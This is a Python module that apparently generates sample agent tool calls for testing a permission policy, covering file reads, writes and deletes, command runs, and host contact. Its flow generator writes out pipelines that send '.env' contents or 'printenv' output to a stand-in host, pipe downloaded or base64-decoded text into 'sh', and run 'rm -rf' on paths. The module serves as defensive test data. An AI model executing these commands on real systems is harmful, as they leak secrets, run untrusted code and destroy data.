"""One action spelled as the calls that would cause it, so that what a policy says of it can be shown on a call.
Pure.
"""

from __future__ import annotations

import shlex
from collections.abc import Iterator
from dataclasses import dataclass

Input = dict[str, object]


@dataclass(frozen=True, slots=True)
class Spelled:
    """A call as a client would make it."""

    tool: str
    input: Input

    @property
    def text(self) -> str:
        """The call on one line, `Tool: text`."""
        values = [value for value in self.input.values() if isinstance(value, str)]
        return f"{self.tool}: {values[0]}" if values else f"{self.tool}:"


def touching(kind: str, path: str) -> Iterator[Spelled]:
    """Yield calls that read, write or delete one path."""
    quoted = shlex.quote(path)
    if kind == "read":
        yield Spelled("Read", {"file_path": path})
        yield Spelled("mcp__filesystem__read_text_file", {"path": path})
        yield Spelled("Bash", {"command": f"cat {quoted}"})
    elif kind == "write":
        yield Spelled("Write", {"file_path": path, "content": ""})
        yield Spelled("mcp__filesystem__write_file", {"path": path, "content": ""})
        yield Spelled("Bash", {"command": f": > {quoted}"})
    else:
        yield Spelled("Delete", {"file_path": path})
        yield Spelled("Bash", {"command": f"rm {quoted}"})
        yield Spelled("Bash", {"command": f"rm -rf {quoted}"})


def holding(kind: str, path: str) -> Iterator[Spelled]:
    """Yield calls that search, fill or delete a folder with all that is in it."""
    quoted = shlex.quote(path)
    if kind == "read":
        yield Spelled("Grep", {"pattern": "x", "path": path})
        yield Spelled("mcp__filesystem__search_files", {"path": path, "pattern": "x"})
        yield Spelled("Bash", {"command": f"grep -r x {quoted}"})
    elif kind == "write":
        yield Spelled("Bash", {"command": f"cp -R /dev/null {quoted}"})
        yield Spelled("Bash", {"command": f"cp -R {shlex.quote(f'{path}/x')} {quoted}"})
    else:
        yield Spelled("Delete", {"file_path": path})
        yield Spelled("Bash", {"command": f"rm -rf {quoted}"})


MODULE = "-m"
"""The option behind which an interpreter takes the program that it runs, python's and its relatives'."""


def running(words: tuple[str, ...]) -> Iterator[Spelled]:
    """Yield calls that run one command, whose options may stand behind its operands.

    Of `python pytest -m -q` also `python -m pytest -q`: the first runs a file, the second another program, and what one
    of them is told may be told to neither or to both.
    """
    line = " ".join(words[:1] if "=" in words[0] else (shlex.quote(words[0]),))
    line = " ".join((line, *map(shlex.quote, words[1:])))
    if "=" in words[0]:
        line += " true"
    yield Spelled("Bash", {"command": line})
    yield Spelled("run_shell_command", {"command": line})
    if MODULE in words[2:]:
        yield Spelled(
            "Bash", {"command": shlex.join((words[0], MODULE, *(word for word in words[1:] if word != MODULE)))}
        )


def contacting(target: str) -> Iterator[Spelled]:
    """Yield calls that contact one host."""
    yield Spelled("WebFetch", {"url": target})
    yield Spelled("Bash", {"command": f"curl {shlex.quote(target)}"})


_ELSEWHERE = "https://elsewhere.example/x"
_SOURCES = {
    "network": f"curl -s {_ELSEWHERE}",
    "decoder": "base64 -d notes.txt",
    "file": "cat notes.txt",
    "secret": "cat .env",
    "environment": "printenv",
    "unknown": "some-program",
}
_SINKS = {"interpreter": "sh", "network": f"curl -d @- {_ELSEWHERE}"}


def flowing() -> Iterator[Spelled]:
    """Yield a call for every flow that a policy can speak of."""
    for source in _SOURCES.values():
        for sink in _SINKS.values():
            yield Spelled("Bash", {"command": f"{source} | {sink}"})


def hidden() -> Spelled:
    """Return a call that cannot be seen inside."""
    return Spelled("Bash", {"command": "$TOOL now"})


def given(tool: str, pointer: list[str], value: str) -> Spelled:
    """Return a call of a tool with one value where a JSON pointer points."""
    inner: object = value
    for step in reversed(pointer):
        inner = [inner] if step.isdigit() or step == "*" else {step: inner}
    return Spelled(tool, inner if isinstance(inner, dict) else {"value": inner})
